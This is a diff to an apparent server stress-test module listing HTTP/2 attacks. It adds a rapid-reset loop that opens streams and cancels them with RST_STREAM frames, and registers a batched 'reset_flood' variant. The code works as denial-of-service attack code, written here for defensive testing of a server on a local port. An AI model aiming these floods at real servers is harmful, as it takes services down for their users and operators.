@@ -57,12 +57,19 @@ def _silent_calls(port: int) -> None:
 
 def _rapid_reset(port: int) -> None:
     with Http2(port) as connection:
+        for _ in range(_RESETS):
+            stream = connection.begin(_LIST)
+            connection.send(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))
+
+
+def _reset_flood(port: int) -> None:
+    with Http2(port) as connection:
         connection.send_bytes(_resets())
 
 
 @cache
 def _resets() -> bytes:
-    """Returns all frames of a turn: making them would keep the attacker busier than the server."""
+    """Returns all frames of a turn: making them keeps an attacker busier than the server."""
     block = headers(_LIST)
     return b"".join(
         frame(HEADERS, END_HEADERS, stream, block)
@@ -101,6 +108,7 @@ ATTACKS: Mapping[str, Attack] = {
     "silent_connections": _silent_connections,
     "silent_calls": _silent_calls,
     "rapid_reset": _rapid_reset,
+    "reset_flood": _reset_flood,
     "pings": _pings,
     "metadata": _metadata,
     "messages_too_large": _calls_of(_LIST, bytes(MESSAGE_BYTES + 1)),
